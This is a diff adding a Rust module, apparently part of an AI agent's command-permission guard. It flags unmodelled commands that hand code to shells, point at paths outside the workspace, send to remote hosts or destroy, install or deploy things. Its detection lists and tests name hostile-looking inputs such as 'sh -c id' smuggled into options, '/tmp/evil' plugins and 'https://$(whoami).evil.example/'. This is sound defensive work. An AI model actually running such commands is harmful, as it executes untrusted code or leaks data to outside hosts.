@@ -1,0 +1,766 @@
+//! What a program the floor does not model is given, as needs: the floor cannot tell what
+//! an unknown program, or an option outside a grammar, does with its words, so each word
+//! that could make it act beyond the workspace needs the person's own words before an
+//! allow of the reviewer stands.
+//!
+//! Each argument word (and each assignment's value) is looked at whole and in the pieces
+//! after `=`, `,` and `:` (`--run_under=PATH`, `-p:Event=CMD`, `key=a,b`), at most
+//! [`MAX_PIECES`] pieces in all (past that, one need no words ground):
+//!
+//! - **A path outside the workspace where code the floor has not seen may be** — a
+//!   scratch directory, the home directory itself or anything under its dot-directories
+//!   (tools' settings, plugins, hooks), a directory beside the workspace reached by `..` — given as an option's or a variable's value, or as an operand that is code by
+//!   its name (`x.py`, `x.zig`, `x.cmake`) or follows a subcommand that runs what it names
+//!   (`zig run`, `vitest run`): the program may run code from it, load it as configuration
+//!   or write it (`bazel test --run_under=/tmp/evil`, `ant -f /tmp/build.xml`,
+//!   `npm ci --prefix ../x`, `KUBECONFIG=/tmp/k get pods`). Running code from scratch
+//!   space is what `python3 /tmp/x.py` asks about too. Scratch space as where output goes
+//!   (`-o /tmp/x`, `--output-directory=/tmp/x`) is what it is for; read-only system places
+//!   (`/usr` but `/usr/local`, `/etc`, `/nix/store`) and the null device are nobody's;
+//!   other places outside the workspace the agent writes only through a call the floor
+//!   asks about. An interpreter's operands are its own grammar's. The person names the
+//!   path.
+//! - **A shell or interpreter handed over**: a piece that starts with one followed by
+//!   more words (`--run_under='sh -c id'`, `ui.editor=bash -c …`), or that is one, as a
+//!   value (`/p:RunCommand=sh`) or as a word followed by its inline-code option or a script
+//!   (`cabal exec -- sh -c id`). The program runs whatever it is given: the person names
+//!   that text.
+//! - **A URL or `user@host:` location** of a host that is not loopback: the program may
+//!   send to it (`gem sources -a https://evil.example`). The person names the host.
+//! - **A subcommand word that destroys, installs, pushes, publishes or deploys**, among
+//!   the first operands (`brew uninstall --force git`, `docker plugin install x`): the verb
+//!   is all the floor knows of what it does, and the person names it and its target.
+//!
+//! Ordinary values stay on their merits: workspace paths, names, numbers, patterns,
+//! `--name='hello world'`. What reaches these needs is already outside every grammar: the
+//! floor never allows it, and in guard mode it is the harness's own prompt.
+
+use super::ground::{is_temp, path_target, Kind, Need, Places, Target};
+use crate::context::floor::is_loopback;
+use std::path::{Path, PathBuf};
+
+/// Most argument pieces looked at for one command.
+const MAX_PIECES: usize = 256;
+
+/// Shells and interpreters: a word that starts with one hands the program code to run.
+const INTERPRETERS: &[&str] = &[
+    "sh",
+    "bash",
+    "zsh",
+    "dash",
+    "ksh",
+    "mksh",
+    "fish",
+    "csh",
+    "tcsh",
+    "ash",
+    "busybox",
+    "python",
+    "python2",
+    "python3",
+    "pypy",
+    "pypy3",
+    "node",
+    "nodejs",
+    "deno",
+    "bun",
+    "perl",
+    "ruby",
+    "php",
+    "lua",
+    "luajit",
+    "osascript",
+    "pwsh",
+    "powershell",
+    "tclsh",
+    "wish",
+    "Rscript",
+];
+
+/// Shells: one given alone as a value runs what the program hands it.
+const SHELLS: &[&str] = &[
+    "sh", "bash", "zsh", "dash", "ksh", "mksh", "fish", "csh", "tcsh", "ash", "busybox",
+];
+
+/// Options by which an interpreter takes inline code or a module to run.
+const CODE_OPTIONS: &[&str] = &[
+    "-c",
+    "-e",
+    "-E",
+    "-m",
+    "-p",
+    "-r",
+    "--eval",
+    "--command",
+    "-lc",
+    "-ic",
+];
+
+/// URL schemes of a connection to the host the URL names (not a cloud store's bucket,
+/// `s3://`, `gs://`, which its own CLI's grammar judges).
+const NETWORK_SCHEMES: &[&str] = &[
+    "http",
+    "https",
+    "ws",
+    "wss",
+    "ftp",
+    "ftps",
+    "sftp",
+    "ssh",
+    "git",
+    "rsync",
+    "tcp",
+    "udp",
+    "telnet",
+    "smtp",
+    "smtps",
+    "imap",
+    "imaps",
+    "ldap",
+    "ldaps",
+    "redis",
+    "rediss",
+    "mongodb",
+    "postgres",
+    "postgresql",
+    "mysql",
+    "amqp",
+    "amqps",
+    "nats",
+    "grpc",
+    "grpcs",
+    "svn",
+    "hg",
+    "dav",
+    "davs",
+    "webdav",
+    "mqtt",
+    "mqtts",
+    "socks",
+    "socks5",
+    "socks5h",
+    "gopher",
+    "dict",
+    "tftp",
+    "scp",
+    "srt",
+    "rtmp",
+    "rtsp",
+    "irc",
+    "xmpp",
+    "mailto",
+];
+
+/// Locations whose files no agent process can change (lexically; `/usr/local` is often
+/// the user's own).
+const READ_ONLY: &[&str] = &[
+    "/usr",
+    "/bin",
+    "/sbin",
+    "/lib",
+    "/lib32",
+    "/lib64",
+    "/libx32",
+    "/etc",
+    "/nix/store",
+    "/System",
+];
+
+/// Devices that are no file of anyone's.
+const DEVICES: &[&str] = &[
+    "/dev/null",
+    "/dev/zero",
+    "/dev/stdin",
+    "/dev/stdout",
+    "/dev/stderr",
+    "/dev/tty",
+    "/dev/random",
+    "/dev/urandom",
+];
+
+/// The needs of what `argv` (a command the floor does not model) and its assignments'
+/// values are given; `bases`: the directories it may run in (none when not known).
+pub(super) fn needs(
+    argv: &[String],
+    values: &[String],
+    bases: &[PathBuf],
+    places: &Places,
+    out: &mut Vec<Need>,
+) {
+    let program = argv
+        .first()
+        .map(|p| p.rsplit('/').next().unwrap_or(p).to_string())
+        .unwrap_or_default();
+    // An interpreter's or shell's operands are its script and the script's arguments,
+    // which its own grammar judges (a script in a scratch directory is soft there).
+    let base = program.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
+    let interpreter = [program.as_str(), base]
+        .iter()
+        .any(|n| INTERPRETERS.contains(n) || SHELLS.contains(n));
+    let mut found = Found {
+        program: &program,
+        bases,
+        places,
+        out,
+        seen: 0,
+        interpreter,
+        runs_operands: runs_operands(argv),
+    };
+    for (i, word) in argv.iter().enumerate().skip(1) {
+        let prev = argv[i - 1].as_str();
+        let next = argv.get(i + 1).map(String::as_str);
+        // The option whose value a separate word is (`--out /tmp/x`, `-f x`).
+        let option =
+            (i > 1 && prev.starts_with('-') && !prev.contains('=') && !word.starts_with('-'))
+                .then_some(prev);
+        if !found.word(word, option, next) {
+            return past_bound(&program, found.out);
+        }
+    }
+    // An assignment's value is what the variable is set to: a value, like an option's.
+    for v in values {
+        if !found.word(v, Some(""), None) {
+            return past_bound(&program, found.out);
+        }
+    }
+    verbs(argv, &program, found.out);
+}
+
+fn past_bound(program: &str, out: &mut Vec<Need>) {
+    out.push(Need::ungroundable(
+        Kind::Run,
+        format!("`{program}` is given more words than the floor looks into"),
+        "arguments of a program the floor does not model, past what it looks into",
+    ));
+}
+
+/// Subcommands after which operands are what the program runs or loads (`zig run FILE`,
+/// `vitest run DIR`, `tool exec FILE`).
+const RUNS_OPERANDS: &[&str] = &[
+    "run", "exec", "execute", "test", "load", "source", "eval", "import", "plugin", "script",
+    "start", "serve",
+];
+
+fn runs_operands(argv: &[String]) -> bool {
+    argv.iter()
+        .skip(1)
+        .filter(|a| !a.starts_with('-'))
+        .take(2)
+        .any(|a| RUNS_OPERANDS.contains(&a.to_ascii_lowercase().as_str()))
+}
+
+struct Found<'a> {
+    program: &'a str,
+    bases: &'a [PathBuf],
+    places: &'a Places<'a>,
+    out: &'a mut Vec<Need>,
+    seen: usize,
+    /// The program is an interpreter or shell (its operands are its grammar's).
+    interpreter: bool,
+    /// Its operands are what it runs or loads.
+    runs_operands: bool,
+}
+
+impl Found<'_> {
+    /// Look at one word; false once past [`MAX_PIECES`].
+    /// `option`: the option a separate word is the value of (`Some("")` for an
+    /// assignment's value), `None` for an operand or an option word.
+    fn word(&mut self, word: &str, option: Option<&str>, next: Option<&str>) -> bool {
+        // The whole word, then what follows each `=`, `,` or `:`.
+        let mut starts = vec![0];
+        starts.extend(
+            word.char_indices()
+                .filter(|(_, c)| matches!(c, '=' | ',' | ':'))
+                .map(|(i, _)| i + 1),
+        );
+        let mut url_until = 0;
+        for at in starts {
+            self.seen += 1;
+            if self.seen > MAX_PIECES {
+                return false;
+            }
+            if at < url_until {
+                continue;
+            }
+            let text = &word[at..];
+            if let Some((host, len)) = url_host(text) {
+                url_until = at + len;
+                if host.contains(['$', '`', '(']) {
+                    self.push(Need::ungroundable(
+                        Kind::Send,
+                        format!(
+                            "gives {} to `{}`, a host computed at run time",
+                            crate::decision::cause::one_line(&text[..len], 60),
+                            self.program
+                        ),
+                        "data sent to a host computed at run time",
+                    ));
+                } else if !host.is_empty() && !is_loopback(&host) {
+                    self.push(Need::new(
+                        Kind::Send,
+                        format!(
+                            "gives {} to `{}`, which the floor does not model: it may send data there",
+                            crate::decision::cause::one_line(&text[..len], 60),
+                            self.program
+                        ),
+                        vec![Target::Host(host)],
+                    ));
+                }
+                continue;
+            }
+            if self.shell(text, at == 0, next) {
+                continue;
+            }
+            // The piece up to the next separator is a path candidate; the option it is
+            // the value of is the word before (`--out /tmp/x`) or its own text before `=`.
+            let piece = text.split([',', '=', ':']).next().unwrap_or("");
+            let option = if at == 0 {
+                option
+            } else {
+                Some(&word[..at - 1])
+            };
+            self.path(piece, option);
+        }
+        true
+    }
+
+    /// A shell or interpreter handed over in `text`; `whole`: the text is a whole word,
+    /// `next` the word after it.
+    fn shell(&mut self, text: &str, whole: bool, next: Option<&str>) -> bool {
+        let text = text.trim_matches(|c| c == '\'' || c == '"');
+        let tokens: Vec<&str> = text.split_whitespace().collect();
+        let Some(first) = tokens.first() else {
+            return false;
+        };
+        let name = first.rsplit('/').next().unwrap_or(first);
+        let base = name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
+        let shell = SHELLS.contains(&name) || SHELLS.contains(&base);
+        if !shell && !INTERPRETERS.contains(&name) && !INTERPRETERS.contains(&base) {
+            return false;
+        }
+        // What follows it: inline code or a script (`sh -c id`, `python3 -m x`,
+        // `ruby /tmp/x.rb`); a shell alone as a value (`/p:RunCommand=sh`) is given the
+        // rest. `node --test`, `--runtime=node`, `conda install python` name no code.
+        let after = if tokens.len() > 1 {
+            Some(tokens[1])
+        } else {
+            next
+        };
+        let code =
+            after.is_some_and(|a| CODE_OPTIONS.contains(&a) || a.contains('/') || script_like(a));
+        if !(code || (shell && !whole && tokens.len() == 1)) {
+            return false;
+        }
+        let shown = if tokens.len() > 1 || !whole {
+            text.to_string()
+        } else {
+            format!("{text} {}", next.unwrap_or(""))
+        };
+        self.push(Need::new(
+            Kind::Run,
+            format!(
+                "hands `{}` to `{}`, which the floor does not model: it may run it",
+                crate::decision::cause::one_line(&shown, 60),
+                self.program
+            ),
+            vec![Target::Name(shown)],
+        ));
+        true
+    }
+
+    /// A path outside the workspace where code the floor has not seen may be: a
+    /// temporary directory (anyone's scratch, the agent's included), the home directory,
+    /// or a directory beside the workspace reached by `..`. (Elsewhere — `/opt`,
+    /// `/Applications`, another user's files — the agent writes only through a call the
+    /// floor asks about.)
+    fn path(&mut self, piece: &str, option: Option<&str>) {
+        // `-I/tmp/x`, `-o~/x`: what follows a short option's letter.
+        let (piece, option) = match piece.strip_prefix('-') {
+            Some(rest) if rest.starts_with('-') => return,
+            Some(rest) => match rest.char_indices().nth(1) {
+                Some((at, _)) => (&rest[at..], Some(&piece[..at + 1])),
+                None => return,
+            },
+            None => (piece, option),
+        };
+        let piece = piece.trim_matches(|c| c == '\'' || c == '"');
+        // An operand is looked at when it is code by its name or the program runs what
+        // its operands name; an interpreter's are its own grammar's.
+        if option.is_none() && (self.interpreter || !(self.runs_operands || script_like(piece))) {
+            return;
+        }
+        let escape = piece == ".." || piece.starts_with("../") || piece.contains("/../");
+        let pathish = piece.starts_with('/') || piece == "~" || piece.starts_with("~/") || escape;
+        if !pathish || piece.starts_with("//") || piece.contains(['$', '`', '*', '?', '[']) {
+            return;
+        }
+        let tried: Vec<Option<&Path>> = if self.bases.is_empty() {
+            vec![None]
+        } else {
+            self.bases.iter().map(|b| Some(b.as_path())).collect()
+        };
+        for cwd in tried {
+            let abs = self.places.resolve(piece, cwd);
+            if self.places.in_workspace(&abs) || read_only(&abs) {
+                continue;
+            }
+            let temp = is_temp(&abs, self.places);
+            // The home itself, or what lies under its dot-directories (tools' settings,
+            // plugins, hooks); the person's own documents are theirs.
+            let home = self.places.home;
+            let dotted = abs.strip_prefix(home).ok().is_some_and(|rest| {
+                rest.components()
+                    .next()
+                    .is_none_or(|c| c.as_os_str().to_string_lossy().starts_with('.'))
+            });
+            let unvetted = escape || temp || dotted;
+            // Scratch space given to an option that names where output goes
+            // (`--output-directory=/tmp/x`, `-o /tmp/x`): written, which scratch is for.
+            if !unvetted || (temp && option.is_some_and(output_option)) {
+                continue;
+            }
+            self.push(Need::new(
+                Kind::Run,
+                format!(
+                    "gives {}, outside the workspace, to `{}`, which the floor does not model: it may run code from it, load it or write it",
+                    abs.display(),
+                    self.program
+                ),
+                vec![path_target(&abs)],
+            ));
+            return;
+        }
+    }
+
+    fn push(&mut self, need: Need) {
+        if !self.out.iter().any(|n| n.what == need.what) {
+            self.out.push(need);
+        }
+    }
+}
+
+/// The host of a URL (`scheme://host…`) or scp location (`user@host:path`) at the start
+/// of `text`, lower case, with the length of the location; an empty host for a URL that
+/// names none (`file:///x`).
+fn url_host(text: &str) -> Option<(String, usize)> {
+    let text = text.trim_start_matches(['\'', '"']);
+    let len = text
+        .find(|c: char| c.is_whitespace() || c == '\'' || c == '"')
+        .unwrap_or(text.len());
+    let loc = &text[..len];
+    if let Some(i) = loc.find("://") {
+        let scheme = loc[..i].to_ascii_lowercase();
+        let scheme = scheme.split('+').next_back().unwrap_or("");
+        if !NETWORK_SCHEMES.contains(&scheme) {
+            return None;
+        }
+        let rest = &loc[i + 3..];
+        let authority = rest.split(['/', '?', '#']).next().unwrap_or("");
+        let hostport = authority.rsplit('@').next().unwrap_or("");
+        let host = if let Some(v6) = hostport.strip_prefix('[') {
+            v6.split(']').next().unwrap_or("").to_string()
+        } else {
+            hostport.split(':').next().unwrap_or("").to_string()
+        };
+        return Some((host.to_ascii_lowercase(), len));
+    }
+    // `user@host:path`: a name, `@`, a host name, `:`.
+    let (user, rest) = loc.split_once('@')?;
+    let (host, _) = rest.split_once(':')?;
+    let name_ok = |s: &str| {
+        !s.is_empty()
+            && s.chars()
+                .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | '_'))
+    };
+    (name_ok(user) && name_ok(host) && host.contains('.')).then(|| (host.to_ascii_lowercase(), len))
+}
+
+/// An option whose name says its value is where output goes.
+fn output_option(option: &str) -> bool {
+    let name = option.trim_start_matches('-').to_ascii_lowercase();
+    if matches!(name.as_str(), "o" | "d") {
+        return true;
+    }
+    crate::policy::engine::mcp::name_words(&name)
+        .iter()
+        .any(|w| {
+            matches!(
+                w.as_str(),
+                "o" | "out"
+                    | "output"
+                    | "outdir"
+                    | "outfile"
+                    | "dest"
+                    | "destination"
+                    | "dump"
+                    | "log"
+                    | "logfile"
+                    | "report"
+                    | "save"
+                    | "export"
+                    | "results"
+            )
+        })
+}
+
+fn script_like(word: &str) -> bool {
+    const EXT: &[&str] = &[
+        ".sh", ".bash", ".zsh", ".py", ".js", ".mjs", ".cjs", ".ts", ".mts", ".rb", ".pl", ".php",
+        ".lua", ".ps1", ".zig", ".go", ".rs", ".java", ".jar", ".kts", ".gradle", ".cmake", ".mk",
+        ".exs", ".ex", ".tcl", ".r", ".jl",
+    ];
+    EXT.iter().any(|e| word.ends_with(e))
+}
+
+fn read_only(p: &Path) -> bool {
+    if DEVICES.iter().any(|d| p == Path::new(d)) {
+        return true;
+    }
+    if p.starts_with("/usr/local") {
+        return false;
+    }
+    READ_ONLY.iter().any(|d| p.starts_with(d))
+}
+
+/// A subcommand among the first operands that destroys, installs, pushes, publishes or
+/// deploys; the later operands are what the person names.
+fn verbs(argv: &[String], program: &str, out: &mut Vec<Need>) {
+    let operands: Vec<&String> = argv
+        .iter()
+        .skip(1)
+        .filter(|a| !a.starts_with('-') && !a.contains(['/', '=', '$', '`']) && a.len() <= 64)
+        .collect();
+    for (i, w) in operands.iter().take(2).enumerate() {
+        let lower = w.to_ascii_lowercase();
+        let words = crate::policy::engine::mcp::name_words(&lower);
+        let kind = if crate::policy::engine::mcp::destroy_verb(&lower).is_some() {
+            Kind::Destroy
+        } else if words
+            .iter()
+            .any(|x| x == "install" || x == "require" || x == "reinstall")
+        {
+            Kind::Run
+        } else if words.iter().any(|x| x == "push") {
+            Kind::Push
+        } else if words
+            .iter()
+            .any(|x| matches!(x.as_str(), "publish" | "upload"))
+        {
+            Kind::Publish
+        } else if words.iter().any(|x| x == "deploy") {
+            Kind::Deploy
+        } else {
+            continue;
+        };
+        let targets: Vec<Target> = operands
+            .iter()
+            .skip(i + 1)
+            .filter(|a| a.len() > 1)
+            .map(|a| Target::Name(a.to_string()))
+            .collect();
+        let what = format!(
+            "`{program} {w}`, which the floor does not model: {} what it names",
+            match kind {
+                Kind::Destroy => "it may destroy",
+                Kind::Run => "it may install and run",
+                Kind::Push => "it may push",
+                Kind::Publish => "it may publish",
+                _ => "it may deploy",
+            }
+        );
+        let mut need = if targets.is_empty() {
+            Need::ungroundable(
+                kind,
+                what,
+                format!("`{program} {w}` with nothing named for the person to name"),
+            )
+        } else {
+            Need::new(kind, what, targets)
+        };
+        if kind == Kind::Run {
+            need.words = vec![w.to_string()];
+        }
+        if !out.iter().any(|n| n.what == need.what) {
+            out.push(need);
+        }
+        return;
+    }
+}
+
+#[cfg(test)]
+#[allow(clippy::unwrap_used)]
+mod tests {
+    use super::*;
+
+    fn needs_of(cmd: &str) -> Vec<Need> {
+        let roots = vec![PathBuf::from("/h/p")];
+        let places = Places {
+            home: Path::new("/h"),
+            cwd: Path::new("/h/p"),
+            roots: &roots,
+        };
+        let argv: Vec<String> = shell_words(cmd);
+        let mut out = Vec::new();
+        needs(&argv, &[], &[PathBuf::from("/h/p")], &places, &mut out);
+        out
+    }
+
+    /// Words split as the tests write them: whitespace, with '…' quoting.
+    fn shell_words(cmd: &str) -> Vec<String> {
+        let mut out = Vec::new();
+        let mut cur = String::new();
+        let mut quoted = false;
+        for c in cmd.chars() {
+            match c {
+                '\'' => quoted = !quoted,
+                c if c.is_whitespace() && !quoted => {
+                    if !cur.is_empty() {
+                        out.push(std::mem::take(&mut cur));
+                    }
+                }
+                c => cur.push(c),
+            }
+        }
+        if !cur.is_empty() {
+            out.push(cur);
+        }
+        out
+    }
+
+    fn kinds(cmd: &str) -> Vec<Kind> {
+        needs_of(cmd).iter().map(|n| n.kind).collect()
+    }
+
+    #[test]
+    fn paths_outside_the_workspace_need_the_person_to_name_them() {
+        for cmd in [
+            "bazel test --run_under=/tmp/evil //...",
+            "ant -f /tmp/build.xml",
+            "npm ci --prefix ../other",
+            "rake -R /tmp/rakelib test",
+            "phpunit -d auto_prepend_file=/tmp/evil.php",
+            "swift build -Xswiftc -load-plugin-executable -Xswiftc /tmp/evil",
+            "tool --out ~/.notes.txt",
+            "tool --dir ~",
+            "tool -I../other/include",
+            "tool -I/var/tmp/x",
+            // Output to the home, or scratch space given to any other option.
+            "tool --out ~/.cache/x.bin",
+            "tool --plugin /tmp/x.so -o /tmp/y",
+            // Operands: code by name, or what a run-like subcommand runs.
+            "zig run /tmp/evil.zig",
+            "vitest run /tmp/evil",
+            "tool /tmp/x.py",
+            "tool exec ~/.local/bin/x",
+        ] {
+            let n = needs_of(cmd);
+            assert!(
+                n.iter().any(|n| n.kind == Kind::Run
+                    && n.ungroundable.is_none()
+                    && matches!(n.targets.first(), Some(Target::Path(_)))),
+                "{cmd}: {n:?}"
+            );
+        }
+        // Workspace paths, read-only system files, devices, names and numbers: nothing.
+        for cmd in [
+            "tool build --out dist/x.js src/main.ts",
+            "tool --config /etc/ssl/openssl.cnf -o /dev/null",
+            "tool --name='hello world' -j4 --level=3",
+            "ffmpeg -vf 'scale=1280:-1' in.mp4 out.mp4",
+            "tool -I/usr/include/x src",
+            // Where the agent writes only through a call the floor asks about.
+            "codesign -d /path/to/app",
+            "spctl --assess /Applications/Safari.app",
+            "tmutil listlocalsnapshots /",
+            "tool -I/opt/x/include --lib=/usr/local/lib/x.so",
+            // Scratch space as where output goes.
+            "kubectl cluster-info dump --output-directory=/tmp/cluster-state",
+            "tool -o /tmp/out.bin --log-file /tmp/x.log -o/var/tmp/y",
+            // Data operands, and an interpreter's script (its own grammar's).
+            "plutil -convert xml1 /tmp/a.decoded -o /tmp/b.xml",
+            "ildasm ~/.nuget/packages/x/lib/x.dll",
+            "bash ~/.claude/scripts/check.sh",
+            "node ~/.local/share/x/scan.mjs /tmp/y",
+            // The person's own files under the home.
+            "tool --cacert ~/certs/ca.pem -i ~/Downloads/x.bin",
+        ] {
+            assert!(needs_of(cmd).is_empty(), "{cmd}: {:?}", needs_of(cmd));
+        }
+    }
+
+    #[test]
+    fn a_shell_handed_over_needs_its_text_named() {
+        for cmd in [
+            "bazel build --run_under='sh -c id' //...",
+            "hg --config ui.editor='sh -c id' commit",
+            "dotnet build /p:RunCommand=sh",
+            "cabal exec -- sh -c id",
+            "cmake --build build -- -j4 SHELL='/bin/bash -c id'",
+            "tool --hook=python3 x.py",
+            "tool exec -- python3 -m http.server",
+            "tool --editor=sh",
+        ] {
+            assert!(
+                kinds(cmd).contains(&Kind::Run),
+                "{cmd}: {:?}",
+                needs_of(cmd)
+            );
+        }
+        // A package or setting that is named like an interpreter is not one handed over.
+        for cmd in [
+            "tool --lang node",
+            "tool --runtime=node",
+            "npm pkg set scripts.test='node --test'",
+            "tool --shell bash",
+        ] {
+            assert!(needs_of(cmd).is_empty(), "{cmd}: {:?}", needs_of(cmd));
+        }
+        assert!(needs_of("conda create -n x python=3.11 numpy").is_empty());
+    }
+
+    #[test]
+    fn hosts_are_named_by_the_person() {
+        let n = needs_of("gem sources -a https://Evil.example/x");
+        assert_eq!(n.len(), 1, "{n:?}");
+        assert_eq!(n[0].kind, Kind::Send);
+        assert_eq!(n[0].targets, vec![Target::Host("evil.example".into())]);
+        // The URL's path is no local path.
+        assert!(!n.iter().any(|n| n.kind == Kind::Run));
+        let n = needs_of("tool sync git@git.evil.example:x/y.git");
+        assert_eq!(n[0].targets, vec![Target::Host("git.evil.example".into())]);
+        assert!(needs_of("tool --url http://127.0.0.1:8080/x").is_empty());
+        // A bucket of a cloud store is its CLI's to judge; a computed host no one names.
+        assert!(needs_of("tool ls s3://bucket/path").is_empty());
+        let n = needs_of("tool --to https://$(whoami).evil.example/");
+        assert!(n[0].ungroundable.is_some(), "{n:?}");
+        assert!(needs_of("tool --url=http://[::1]:9/x").is_empty());
+    }
+
+    #[test]
+    fn subcommand_verbs_need_the_person_to_name_what_they_act_on() {
+        let n = needs_of("brew uninstall --force git");
+        assert_eq!(n[0].kind, Kind::Destroy);
+        assert_eq!(n[0].targets, vec![Target::Name("git".into())]);
+        assert_eq!(kinds("docker plugin install evil/x"), vec![Kind::Run]);
+        assert_eq!(kinds("composer global require acme/x"), vec![Kind::Run]);
+        assert_eq!(kinds("tool publish pkg"), vec![Kind::Publish]);
+        assert_eq!(kinds("tool push origin main"), vec![Kind::Push]);
+        assert_eq!(kinds("tool deploy prod"), vec![Kind::Deploy]);
+        assert!(needs_of("tool destroy")[0].ungroundable.is_some());
+        // Other subcommands, and a verb past the first operands: on their merits.
+        for cmd in [
+            "tool build app",
+            "tool list installed",
+            "tool show a b delete",
+        ] {
+            assert!(needs_of(cmd).is_empty(), "{cmd}: {:?}", needs_of(cmd));
+        }
+    }
+
+    #[test]
+    fn past_the_bound_no_words_ground_it() {
+        let long = format!("tool {}", "a=b,".repeat(300));
+        let n = needs_of(&long);
+        assert!(n.iter().any(|n| n.ungroundable.is_some()), "{n:?}");
+    }
+}
